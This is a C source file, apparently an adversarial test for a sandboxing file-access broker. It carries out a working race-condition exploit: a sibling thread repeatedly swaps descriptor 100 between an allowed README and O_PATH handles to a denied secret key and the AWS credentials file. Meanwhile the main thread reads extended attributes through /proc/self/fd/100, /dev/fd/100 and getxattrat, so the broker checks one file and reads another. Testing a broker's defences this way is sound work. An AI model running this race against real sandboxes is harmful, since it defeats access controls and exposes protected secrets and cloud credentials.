// technique: a sibling thread swaps descriptor 100 (dup2) between an O_RDONLY descriptor of an allowed file and O_PATH descriptors of the denied key and credentials while the main thread reads xattrs through /proc/self/fd/100, /dev/fd/100 and getxattrat(100, "", AT_EMPTY_PATH): the broker decides "held, not O_PATH" on one descriptor and reads another
// build: static
#include "adv.h"
#include <pthread.h>
#include <sys/xattr.h>
#include <linux/types.h>
#ifndef SYS_getxattrat
#define SYS_getxattrat 464
#endif
#ifndef SYS_listxattrat
#define SYS_listxattrat 465
#endif
struct xargs { __u64 value; __u32 size; __u32 flags; };
static int fds[3];
static volatile int stop;
static void *flip(void *arg) {
	(void)arg;
	while (!stop)
		for (int i = 0; i < 3; i++) dup2(fds[i], 100);
	return NULL;
}
static int got;
static void show(const char *label, long n, char *buf) {
	if (n <= 0) return;
	for (long j = 0; j < n; j++) if (!buf[j]) buf[j] = ' ';
	buf[n] = 0;
	printf("%s: %ld: %s\n", label, n, buf);
	got++;
}
int main(void) {
	char readme[1024], aws[1024];
	snprintf(readme, sizeof readme, "%s/README.md", adv("PROJECT"));
	snprintf(aws, sizeof aws, "%s/.aws/credentials", adv("HOME"));
	fds[0] = open(readme, O_RDONLY);
	fds[1] = open(adv("SECRET"), O_PATH);
	fds[2] = open(aws, O_PATH);
	if (fds[0] < 0 || fds[1] < 0 || fds[2] < 0) { perror("open"); return 1; }
	pthread_t t;
	pthread_create(&t, NULL, flip, NULL);
	char buf[4096];
	struct xargs a = { (unsigned long)buf, sizeof buf - 1, 0 };
	for (int i = 0; i < 10000 && got < 8; i++) {
		show("getxattr /proc/self/fd/100", syscall(SYS_getxattr, "/proc/self/fd/100", "user.aixadv", buf, sizeof buf - 1), buf);
		show("listxattr /proc/self/fd/100", syscall(SYS_listxattr, "/proc/self/fd/100", buf, sizeof buf - 1), buf);
		show("getxattr /dev/fd/100", syscall(SYS_getxattr, "/dev/fd/100", "user.aixadv", buf, sizeof buf - 1), buf);
		show("getxattrat AT_EMPTY_PATH", syscall(SYS_getxattrat, 100, "", AT_EMPTY_PATH, "user.aixadv", &a, sizeof a), buf);
		show("listxattrat AT_EMPTY_PATH", syscall(SYS_listxattrat, 100, "", AT_EMPTY_PATH, buf, sizeof buf - 1), buf);
	}
	stop = 1;
	pthread_join(t, NULL);
	printf("done, %d answers\n", got);
	return 0;
}
